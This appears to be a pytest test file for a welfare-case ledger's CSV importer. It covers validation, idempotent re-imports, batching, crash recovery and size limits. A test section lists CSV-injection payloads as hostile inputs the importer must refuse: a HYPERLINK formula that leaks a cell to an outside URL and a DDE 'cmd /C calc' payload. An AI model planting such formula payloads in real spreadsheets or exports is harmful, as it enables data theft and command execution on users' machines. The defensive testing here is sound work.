"""Imports on both stores: all or nothing, idempotent, decisions become the right events."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from aidledger.wiring import Services
from ledger.case import case_aggregate_id, state_as_of
from ledger.errors import InputRefused, NotAuthorised
from ledger.events import event_type_name
from projections.registers import open_imports
from tests.builders import (
    HEADER,
    case_rows,
    fixture_row,
    head,
    load,
    with_county_staff,
    with_staff,
)
from tests.conftest import FIXTURES, TEST_TODAY

TODAY = TEST_TODAY


def history_types(svc: Services, case_id: str) -> list[str]:
    return [event_type_name(e) for e in svc.app.events.get(case_aggregate_id(case_id))]  # type: ignore[arg-type]


def test_importing_a_cases_file_opens_each_case(svc: Services) -> None:
    with_staff(svc)
    summary = load(svc, "cases", FIXTURES / "cases.csv")
    assert (summary.rows, summary.new, summary.changed, summary.unchanged) == (5, 5, 0, 0)
    rows = dict(svc.db.query("SELECT case_id, monthly_amount FROM cases"))
    assert rows == {"C001": 156000, "C002": 118050, "C003": 20000, "C004": 9050, "C005": 208000}


def test_reimporting_the_same_file_records_nothing(svc: Services) -> None:
    with_staff(svc)
    load(svc, "cases", FIXTURES / "cases.csv")
    before = head(svc)
    again = load(svc, "cases", FIXTURES / "cases.csv")
    assert again.already_imported
    assert again.previously["by"] == "S001"
    assert head(svc) == before


def test_identical_rows_in_another_file_record_no_case_event(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    load(svc, "cases", FIXTURES / "cases.csv")
    before = head(svc)
    reordered = case_rows(tmp_path, "again.csv", fixture_row("C003"), fixture_row("C001"))
    summary = load(svc, "cases", reordered)
    assert (summary.new, summary.changed, summary.unchanged, summary.events) == (0, 0, 2, 0)
    # Only the record that this (different) file was seen.
    assert head(svc) == before + 1


def test_a_bad_file_is_refused_with_every_line_and_records_nothing(svc: Services) -> None:
    with_staff(svc)
    before = head(svc)
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", FIXTURES / "cases_bad.csv")
    problems = {(p.line, p.column): p.reason for p in refused.value.problems}
    assert "check digit" in problems[(2, "id_number")]
    assert "unknown program" in problems[(3, "program")]
    assert "malformed amount" in problems[(4, "monthly_amount")]
    assert "impossible date" in problems[(5, "effective_from")]
    assert "approver" in problems[(6, "approved_by")]
    assert not any(p.line == 7 for p in refused.value.problems)
    assert head(svc) == before
    assert svc.db.query("SELECT COUNT(*) FROM cases") == [(0,)]


def test_refusal_message_names_the_file_and_masks_personal_data(svc: Services) -> None:
    with_staff(svc)
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", FIXTURES / "cases_bad.csv")
    message = str(refused.value)
    assert "cases_bad.csv" in message and "line 2" in message
    assert "610102195001010010" not in message  # the bad id number is shown masked


def test_a_missing_column_is_refused(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    path = tmp_path / "short.csv"
    path.write_text("case_id,program\nC1,dibao\n", encoding="utf-8")
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", path)
    missing = {p.column for p in refused.value.problems if p.reason == "missing column"}
    assert {"region_code", "monthly_amount", "approved_by"} <= missing
    assert all(p.line == 1 for p in refused.value.problems)


def test_amount_changed_twice_replays_in_order_and_as_of_gives_the_amount_then(
    svc: Services, tmp_path: Path
) -> None:
    with_staff(svc)
    load(svc, "cases", FIXTURES / "cases.csv")
    row = fixture_row("C001")
    load(
        svc,
        "cases",
        case_rows(tmp_path, "raise1.csv", row.replace("1560.00,2026-01-01", "1620.00,2026-04-01")),
    )
    load(
        svc,
        "cases",
        case_rows(tmp_path, "raise2.csv", row.replace("1560.00,2026-01-01", "1700.50,2026-07-01")),
    )
    assert history_types(svc, "C001") == [
        "CaseApproved",
        "MonthlyAmountChanged",
        "MonthlyAmountChanged",
    ]
    events = list(svc.app.events.get(case_aggregate_id("C001")))
    amounts = {
        day: state_as_of(events, day).monthly_amount  # type: ignore[union-attr, arg-type]
        for day in (date(2026, 3, 31), date(2026, 4, 1), date(2026, 6, 30), date(2026, 7, 1))
    }
    assert amounts == {
        date(2026, 3, 31): 156000,
        date(2026, 4, 1): 162000,
        date(2026, 6, 30): 162000,
        date(2026, 7, 1): 170050,
    }
    assert state_as_of(events, date(2025, 12, 31)) is None  # before the case began


def test_termination_and_reinstatement_rows(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    load(svc, "cases", FIXTURES / "cases.csv")
    row = fixture_row("C005")
    ended = row.replace("2026-03-01,,", "2026-03-01,2026-08-31,")
    load(svc, "cases", case_rows(tmp_path, "end.csv", ended))
    load(svc, "cases", case_rows(tmp_path, "back.csv", row))
    assert history_types(svc, "C005") == ["CaseApproved", "CaseTerminated", "CaseReinstated"]
    events = list(svc.app.events.get(case_aggregate_id("C005")))
    assert events[1].effective_from == date(2026, 9, 1)  # type: ignore[attr-defined]
    assert svc.db.query("SELECT effective_to FROM cases WHERE case_id = 'C005'") == [(None,)]


def test_account_change_is_its_own_decision(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    load(svc, "cases", FIXTURES / "cases.csv")
    row = fixture_row("C002").replace("6228480000000000012", "6217990000000000099")
    row = row.replace("2026-02-01", "2026-05-01")
    load(svc, "cases", case_rows(tmp_path, "acct.csv", row))
    assert history_types(svc, "C002") == ["CaseApproved", "AccountChanged"]
    assert svc.db.query("SELECT bank_account FROM cases WHERE case_id = 'C002'") == [
        ("6217990000000000099",)
    ]


def test_moving_a_case_to_another_program_is_refused(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    load(svc, "cases", FIXTURES / "cases.csv")
    before = head(svc)
    moved = fixture_row("C001").replace(",dibao,", ",tekun,")
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", case_rows(tmp_path, "moved.csv", fixture_row("C003"), moved))
    assert [(p.line, p.column) for p in refused.value.problems] == [(3, "program")]
    assert head(svc) == before


def test_by_must_be_registered_staff_holding_the_importing_role(svc: Services) -> None:
    with pytest.raises(NotAuthorised):
        load(svc, "cases", FIXTURES / "cases.csv", by="S001")
    # The first staff import must be by an admin named in that same file.
    with pytest.raises(NotAuthorised, match="admin"):
        load(svc, "staff", FIXTURES / "staff.csv", by="S003")
    load(svc, "staff", FIXTURES / "staff.csv", by="S007")
    with pytest.raises(NotAuthorised):
        load(svc, "deaths", FIXTURES / "deaths.csv", by="NOBODY")
    with pytest.raises(NotAuthorised, match="caseworker"):
        load(svc, "deaths", FIXTURES / "deaths.csv", by="S004")  # an auditor
    assert load(svc, "deaths", FIXTURES / "deaths.csv", by="S001").new == 2


def test_gbk_and_bom_files_are_read(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    text = (FIXTURES / "cases.csv").read_text(encoding="utf-8")
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes(text.encode("gbk"))
    assert load(svc, "cases", gbk).new == 5
    assert svc.db.query("SELECT name FROM cases WHERE case_id = 'C001'") == [("王秀兰",)]
    bom = tmp_path / "bom.csv"
    bom.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    summary = load(svc, "cases", bom)
    assert (summary.new, summary.unchanged) == (0, 5)


def test_death_report_correction(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    load(svc, "deaths", FIXTURES / "deaths.csv")
    lines = (FIXTURES / "deaths.csv").read_text(encoding="utf-8").splitlines()
    corrected = tmp_path / "deaths2.csv"
    corrected.write_text(
        "\n".join([lines[0], lines[1].replace("2026-04-12", "2026-04-02")]), encoding="utf-8"
    )
    summary = load(svc, "deaths", corrected)
    assert (summary.new, summary.changed) == (0, 1)
    assert [
        str(d)
        for (d,) in svc.db.query(
            "SELECT date_of_death FROM deaths WHERE id_number = '610102193505050050'"
        )
    ] == ["2026-04-02"]


def test_a_death_in_the_future_is_refused(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    path = tmp_path / "future.csv"
    path.write_text(
        "id_number,date_of_death,source\n610102193505050050,2027-01-01,x\n", encoding="utf-8"
    )
    with pytest.raises(InputRefused):
        load(svc, "deaths", path)


def test_large_files_are_written_in_batches(
    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with_staff(svc)
    from ledger.synthetic import CASE_COLUMNS, generate_county, write_csv

    county = generate_county(cases=230, seed=3, frauds=False)
    with_county_staff(svc, tmp_path, cases=230, seed=3)
    path = tmp_path / "county.csv"
    write_csv(path, county.cases, CASE_COLUMNS)
    saves: list[int] = []
    firsts: list[str] = []
    original = svc.app.events.put

    def counting_put(events, **kwargs):  # type: ignore[no-untyped-def]
        saves.append(len(events))
        firsts.append(event_type_name(events[0]))
        return original(events, **kwargs)

    monkeypatch.setattr(svc.app.events, "put", counting_put)
    summary = load(svc, "cases", path)
    assert (summary.new, summary.events) == (230, 230)
    # batch_events=50 in the test settings: 5 batches of cases, the first beginning with the
    # import's start, then the file's record.
    assert saves == [50, 50, 50, 50, 31, 1]
    assert firsts == ["ImportStarted", *["CaseApproved"] * 4, "FileImported"]


def test_an_import_that_crashed_half_way_completes_when_run_again(
    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with_staff(svc)
    from ledger.synthetic import CASE_COLUMNS, generate_county, write_csv

    county = generate_county(cases=180, seed=5, frauds=False)
    with_county_staff(svc, tmp_path, cases=180, seed=5)
    path = tmp_path / "county.csv"
    write_csv(path, county.cases, CASE_COLUMNS)
    original = svc.app.events.put
    calls = {"n": 0}

    def crash_on_third(events, **kwargs):  # type: ignore[no-untyped-def]
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("power cut")
        return original(events, **kwargs)

    monkeypatch.setattr(svc.app.events, "put", crash_on_third)
    with pytest.raises(RuntimeError):
        load(svc, "cases", path)
    monkeypatch.setattr(svc.app.events, "put", original)
    svc.sync()
    # Two batches of 50 events: the import's start and 49 cases, then 50 cases.
    assert svc.db.query("SELECT COUNT(*) FROM cases") == [(99,)]
    assert [i.filename for i in open_imports(svc.db)] == ["county.csv"]
    summary = load(svc, "cases", path)
    # The file's record counts it as a clean import would: the rows the crashed run wrote are
    # this file's own new rows (their events name this file and its content), not unchanged.
    assert (summary.new, summary.unchanged) == (180, 0)
    assert summary.events == 81  # what this run wrote
    assert open_imports(svc.db) == []
    assert svc.db.query("SELECT COUNT(*) FROM cases") == [(180,)]
    assert load(svc, "cases", path).already_imported


def test_projecting_from_a_second_process_while_importing_gives_the_same_read_models(
    svc: Services, tmp_path: Path
) -> None:
    from ledger.synthetic import CASE_COLUMNS, generate_county, write_csv
    from projections.runner import catch_up, reset

    with_staff(svc)
    county = generate_county(cases=400, seed=9, frauds=False)
    with_county_staff(svc, tmp_path, cases=400, seed=9)
    path = tmp_path / "county.csv"
    write_csv(path, county.cases, CASE_COLUMNS)
    svc.importer.follow_above = 10  # force the background follower for this small file
    assert load(svc, "cases", path).new == 400
    followed = sorted(svc.db.query("SELECT * FROM cases"))
    assert len(followed) == 400
    reset(svc.db, svc.models)
    catch_up(svc.app, svc.db, svc.models)
    assert sorted(svc.db.query("SELECT * FROM cases")) == followed


def test_rerun_of_a_killed_import_with_a_case_on_two_lines_writes_nothing_again(
    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The killed run left the case as its later line says; the rerun must neither undo the
    earlier line's decision nor redo the later one, and must count both as a clean run does."""
    import csv

    from ledger.registry import ImportedFile
    from ledger.synthetic import CASE_COLUMNS, generate_county, write_csv

    with_staff(svc)
    path = tmp_path / "county.csv"
    write_csv(path, generate_county(cases=30, seed=5, frauds=False).cases, CASE_COLUMNS)
    with_county_staff(svc, tmp_path, cases=30, seed=5)
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    again = dict(rows[0], monthly_amount=f"{float(rows[0]['monthly_amount']) + 10:.2f}")
    write_csv(path, [*rows, again], CASE_COLUMNS)

    def killed(*_: object, **__: object) -> None:
        raise RuntimeError("killed before the file record")

    monkeypatch.setattr(ImportedFile, "record", killed)
    with pytest.raises(RuntimeError):
        load(svc, "cases", path)
    monkeypatch.undo()
    head = svc.app.recorder.max_notification_id()
    summary = load(svc, "cases", path)
    assert (summary.new, summary.changed, summary.unchanged) == (30, 1, 0)
    assert svc.app.recorder.max_notification_id() == (head or 0) + 1  # the file record only


@pytest.mark.parametrize("chunk", [1, 3, 5000])
def test_a_reimport_compared_a_chunk_of_rows_at_a_time_decides_every_row_as_a_whole(
    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, chunk: int
) -> None:
    """A month's re-import of the register: rows are compared with the stored cases a chunk at
    a time (so a province's register is not held twice), whatever chunk a case's rows fall in."""
    import csv
    from decimal import Decimal

    from ledger import imports
    from ledger.synthetic import CASE_COLUMNS, generate_county, write_csv

    with_staff(svc)
    path = tmp_path / "county.csv"
    write_csv(path, generate_county(cases=60, seed=11, frauds=False).cases, CASE_COLUMNS)
    with_county_staff(svc, tmp_path, cases=60, seed=11)
    load(svc, "cases", path)
    rows = list(csv.DictReader(path.open(encoding="utf-8")))

    def raised(row: dict[str, str], yuan: int, day: str) -> dict[str, str]:
        return dict(
            row, monthly_amount=str(Decimal(row["monthly_amount"]) + yuan), effective_from=day
        )

    open_ = [r for r in rows if not r["effective_to"]]  # cases in effect: a raise applies
    changed, twice = open_[:10], open_[10]
    fresh = [dict(open_[0], case_id=f"N{i:03d}", id_number=rows[i]["id_number"]) for i in range(5)]
    rest = [r for r in rows if r not in changed and r is not twice]
    month = [
        *(raised(r, 10, "2026-11-01") for r in changed),
        raised(twice, 20, "2026-11-01"),  # and again below
        *rest[:30],  # unchanged
        *fresh,  # new; N000 changed again below
        raised(twice, 30, "2026-12-01"),
        raised(fresh[0], 5, "2026-12-01"),
        *rest[30:],  # unchanged
    ]
    second = tmp_path / "month.csv"
    write_csv(second, month, CASE_COLUMNS)
    monkeypatch.setattr(imports, "EXISTING_CHUNK", chunk)
    # With a second process projecting the rows written while later chunks are read.
    svc.importer.follow_above = 10
    summary = load(svc, "cases", second)
    assert len(rest) == 49
    assert (summary.new, summary.changed, summary.unchanged) == (5, 10 + 2 + 1, 49)
    assert history_types(svc, twice["case_id"]) == [
        "CaseApproved",
        "MonthlyAmountChanged",
        "MonthlyAmountChanged",
    ]
    assert history_types(svc, "N000") == ["CaseApproved", "MonthlyAmountChanged"]
    amounts = dict(svc.db.query("SELECT case_id, monthly_amount FROM cases"))
    assert len(amounts) == 65
    expected = {r["case_id"]: int(Decimal(r["monthly_amount"]) * 100) for r in month}
    assert amounts == expected


@pytest.mark.postgres
@pytest.mark.parametrize("store_url", ["postgresql"], indirect=True)
def test_a_big_reimport_first_brings_the_statistics_of_what_it_reads_up_to_date(
    svc: Services, tmp_path: Path
) -> None:
    """Stale statistics after a month's bulk writes made PostgreSQL read each changed case's
    events with a parallel scan: a province's re-import took 269 s instead of some 60."""
    import csv

    from ledger.synthetic import CASE_COLUMNS, generate_county, write_csv

    analyzed = (
        "SELECT relname FROM pg_stat_user_tables WHERE last_analyze IS NOT NULL "
        "AND relname IN ('aidledger_events', 'cases') ORDER BY relname"
    )
    with_staff(svc)
    path = tmp_path / "county.csv"
    write_csv(path, generate_county(cases=40, seed=2, frauds=False).cases, CASE_COLUMNS)
    with_county_staff(svc, tmp_path, cases=40, seed=2)
    load(svc, "cases", path)  # a first import: there is nothing stored to read
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    for n, name in enumerate(("small.csv", "big.csv"), start=1):
        write_csv(tmp_path / name, [*rows, dict(rows[0], case_id=f"N{n}")], CASE_COLUMNS)
    assert load(svc, "cases", tmp_path / "small.csv").new == 1
    assert svc.db.query(analyzed) == []  # 41 rows: not worth a second's sampling
    svc.importer.analyze_above = 10
    assert load(svc, "cases", tmp_path / "big.csv").new == 1
    assert svc.db.query(analyzed) == [("aidledger_events",), ("cases",)]


# -- formula cells (CSV injection) ------------------------------------------------------------

#: The payloads of CSV injection the spec names, with the column each goes in.
INJECTED = [
    ("name", '=HYPERLINK("http://x"&A1,"a")'),
    ("account_name", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("name", "-2+3"),
    ("account_name", "@SUM(1)"),
    ("name", "\t王秀兰"),
    ("account_name", "\r王秀兰"),
    ("case_id", "=1+2"),
]


def _csv_file(path: Path, columns: tuple[str, ...], rows: list[dict[str, str]]) -> Path:
    import csv

    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, columns)  # CRLF line ends: a CR in a cell is quoted
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_formula_cells_are_refused_by_line_and_nothing_is_recorded(
    svc: Services, tmp_path: Path
) -> None:
    import csv

    from ledger.case import CASE_COLUMNS

    with_staff(svc)
    good = list(csv.DictReader((FIXTURES / "cases.csv").open(encoding="utf-8")))
    rows = [
        {**good[0], "case_id": f"F{n}", column: payload}
        for n, (column, payload) in enumerate(INJECTED)
    ]
    path = _csv_file(tmp_path / "injected.csv", CASE_COLUMNS, [*good, *rows])
    before = head(svc)
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", path)
    found = [(p.line, p.column) for p in refused.value.problems]
    # Every offending line (the one with a CR in a quoted cell counts as two lines).
    lines = [7, 8, 9, 10, 11, 12, 14]
    assert len(good) == 5 and found == [(n, c) for n, (c, _) in zip(lines, INJECTED, strict=True)]
    assert all("formula" in p.reason for p in refused.value.problems)
    assert "HYPERLINK" not in str(refused.value)  # a name is shown masked, as always
    assert head(svc) == before
    assert svc.db.query("SELECT COUNT(*) FROM cases") == [(0,)]


def test_formula_cells_in_deaths_relatives_and_staff_files_are_refused(
    svc: Services, tmp_path: Path
) -> None:
    from ledger.registry import DEATH_COLUMNS, RELATIVE_COLUMNS, STAFF_COLUMNS

    with_staff(svc)
    deaths = _csv_file(
        tmp_path / "deaths.csv",
        DEATH_COLUMNS,
        [
            {"id_number": "610102193505050050", "date_of_death": "2026-04-12", "source": "公安"},
            {"id_number": "610102199006060067", "date_of_death": "2025-11-30", "source": "=1+2"},
        ],
    )
    relatives = _csv_file(
        tmp_path / "relatives.csv",
        RELATIVE_COLUMNS,
        [{"staff_id": "S001", "id_number": "610102193505050050", "relation": "@SUM(1)"}],
    )
    staff = _csv_file(
        tmp_path / "staff.csv",
        STAFF_COLUMNS,
        [
            {
                "staff_id": "S008",
                "name": "\t周建国",
                "id_number": "610102198001010015",
                "bank_account": "6217000000000000108",
                "role": "caseworker",
                "region_code": "610102",
            }
        ],
    )
    before = head(svc)
    for kind, path, where in (
        ("deaths", deaths, [(3, "source")]),
        ("relatives", relatives, [(2, "relation")]),
        ("staff", staff, [(2, "name")]),
    ):
        with pytest.raises(InputRefused) as refused:
            load(svc, kind, path)
        assert [(p.line, p.column) for p in refused.value.problems] == where, kind
    assert head(svc) == before


# -- size and bounded reading ---------------------------------------------------------------


def test_a_file_above_the_size_limit_is_refused_before_it_is_read(
    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ledger.csvfile import InputFile
    from ledger.errors import InputTooLarge

    with_staff(svc)
    path = tmp_path / "huge.csv"
    with path.open("wb") as f:  # sparse: 5 GiB that take no room and would take long to read
        f.truncate(5 * 2**30)

    def read(_: object) -> None:
        raise AssertionError("the file was read")

    monkeypatch.setattr(InputFile, "_first_reading", read)
    with pytest.raises(InputTooLarge) as refused:
        load(svc, "cases", path)
    message = str(refused.value)
    assert str(path) in message
    assert "5,368,709,120 bytes" in message and "4,294,967,296 bytes" in message
    assert "AIDLEDGER_MAX_INPUT_BYTES" in message
    with pytest.raises(InputTooLarge):
        svc.importer.count_lines(path)  # the command line's progress bar asks first


def test_the_size_limit_is_a_setting(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    assert cli("import", "staff", str(FIXTURES / "staff.csv"), "--by", "S007").exit_code == 0
    monkeypatch.setenv("AIDLEDGER_MAX_INPUT_BYTES", "100")
    result = cli("import", "cases", str(FIXTURES / "cases.csv"), "--by", "S001")
    assert result.exit_code == 1
    assert "cases.csv: refused" in result.output and "AIDLEDGER_MAX_INPUT_BYTES" in result.output
    monkeypatch.setenv("AIDLEDGER_MAX_INPUT_BYTES", "100000")
    assert cli("import", "cases", str(FIXTURES / "cases.csv"), "--by", "S001").exit_code == 0


def test_a_file_of_many_bad_rows_lists_the_first_thousand_and_counts_the_rest(
    svc: Services, tmp_path: Path
) -> None:
    with_staff(svc)
    bad = fixture_row("C001").replace("610102195001010011", "610102195001010012")
    path = case_rows(tmp_path, "bad.csv", *[bad.replace("C001", f"B{n}") for n in range(1500)])
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", path)
    assert len(refused.value.problems) == 1000 and refused.value.more == 500
    assert [p.line for p in refused.value.problems] == list(range(2, 1002))
    assert "1,500 problem(s), the first 1,000 by line listed" in str(refused.value)


def test_an_overlong_line_is_a_problem_not_a_line_held_whole(svc: Services, tmp_path: Path) -> None:
    from ledger.csvfile import MAX_LINE

    with_staff(svc)
    path = case_rows(tmp_path, "long.csv", fixture_row("C001"), "x" * (MAX_LINE + 10))
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", path)
    assert [(p.line, p.reason[:22]) for p in refused.value.problems] == [
        (3, "line longer than 1,048")
    ]


def test_undecodable_text_after_a_bom_is_refused(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + (FIXTURES / "cases.csv").read_bytes() + b"\xff\xfe\n")
    with pytest.raises(InputRefused, match="neither UTF-8 nor GB18030"):
        load(svc, "cases", path)


def test_a_file_rewritten_between_the_readings_of_an_import_is_not_written(
    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ledger.errors import InputChanged

    with_staff(svc)
    path = case_rows(tmp_path, "moving.csv", fixture_row("C001"))
    original = svc.importer._check_cases

    def check_then_rewrite(*args, **kwargs):  # type: ignore[no-untyped-def]
        checked = original(*args, **kwargs)
        # Same size, other content: the approver becomes the decider.
        path.write_text(path.read_text(encoding="utf-8").replace("S002", "S001"), "utf-8")
        return checked

    monkeypatch.setattr(svc.importer, "_check_cases", check_then_rewrite)
    with pytest.raises(InputChanged, match="changed while it was being imported"):
        load(svc, "cases", path)
    assert svc.db.query("SELECT COUNT(*) FROM cases") == [(0,)]


def test_case_ids_that_share_a_hash_are_told_apart(
    svc: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The checks across rows keep each line's key as a 64-bit hash: lines whose hashes meet
    are read again and compared whole, so two cases whose ids share a hash are two cases."""
    from ledger import imports
    from ledger.validation import LineKeys

    class Colliding(LineKeys):
        def __init__(self, *, small_tags: bool = False) -> None:
            super().__init__(small_tags=small_tags, hash_of=lambda _: 7)

    monkeypatch.setattr(imports, "LineKeys", Colliding)
    with_staff(svc)
    moved = fixture_row("C001").replace(",dibao,", ",tekun,")
    path = case_rows(
        tmp_path, "county.csv", fixture_row("C001"), fixture_row("C002"), fixture_row("C003")
    )
    assert load(svc, "cases", path).new == 3
    # A case in two programs in one file is still found, and only it.
    again = case_rows(
        tmp_path,
        "again.csv",
        *[fixture_row(c).replace("C00", "N00") for c in ("C001", "C002")],
        moved.replace("C001", "N001"),
    )
    with pytest.raises(InputRefused) as refused:
        load(svc, "cases", again)
    assert [(p.line, p.column) for p in refused.value.problems] == [(4, "program")]
    assert "case N001 belongs to program dibao" in refused.value.problems[0].reason


def test_a_register_file_repeating_a_line_writes_it_once(svc: Services, tmp_path: Path) -> None:
    with_staff(svc)
    lines = (FIXTURES / "deaths.csv").read_text(encoding="utf-8").splitlines()
    path = tmp_path / "twice.csv"
    path.write_text("\n".join([lines[0], lines[1], lines[2], lines[1]]) + "\n", encoding="utf-8")
    summary = load(svc, "deaths", path)
    assert (summary.rows, summary.new, summary.events) == (3, 2, 2)
    other = tmp_path / "conflict.csv"
    other.write_text(
        "\n".join([lines[0], lines[1], lines[1].replace("2026-04-12", "2026-04-02")]) + "\n",
        encoding="utf-8",
    )
    with pytest.raises(InputRefused) as refused:
        load(svc, "deaths", other)
    assert [(p.line, p.column) for p in refused.value.problems] == [(3, "id_number")]


#: Run in a process of its own: a fresh store with the fixture staff, then the import of a
#: large cases file; prints the refusal and the peak memory before and after it.
_LARGE_IMPORT = """
import json, resource, sys
from pathlib import Path
from aidledger.settings import Settings
from aidledger.wiring import init_store
from ledger.errors import InputRefused
store, staff, cases = sys.argv[1:4]
svc = init_store(Settings(database_url=store))
svc.importer.import_file("staff", Path(staff), by="S007")
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
try:
    svc.importer.import_file("cases", Path(cases), by="S001")
    refused = None
except InputRefused as e:
    refused = [[p.line, p.column] for p in e.problems]
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
print(json.dumps({"refused": refused, "before": before, "after": after}))
"""


@pytest.mark.slow
def test_a_large_file_with_one_bad_row_at_the_end_is_refused_in_bounded_memory(
    tmp_path: Path,
) -> None:
    """Some 50 MB of good rows and one bad row at the end: refused naming that row, while the
    importing process grows by a fraction of the file (it held every row before: 1.6 GiB
    for 1.5M rows)."""
    import json
    import subprocess
    import sys

    good = fixture_row("C001").split(",", 1)[1]  # all but the case id
    bad = good.replace("610102195001010011", "610102195001010012")  # a wrong check digit
    path = tmp_path / "large.csv"
    with path.open("w", encoding="utf-8") as f:
        f.write(HEADER + "\n")
        rows = 0
        while f.tell() < 50 * 2**20:
            f.write("".join(f"L{rows + n:08d},{good}\n" for n in range(10_000)))
            rows += 10_000
        f.write(f"L{rows:08d},{bad}\n")
    size = path.stat().st_size
    proc = subprocess.run(
        [
            sys.executable,
            "-c",
            _LARGE_IMPORT,
            str(tmp_path / "store.db"),
            str(FIXTURES / "staff.csv"),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    assert result["refused"] == [[rows + 2, "id_number"]]
    grown = result["after"] - result["before"]
    assert grown < size / 3, f"grew by {grown / 2**20:.0f} MiB for a {size / 2**20:.0f} MiB file"
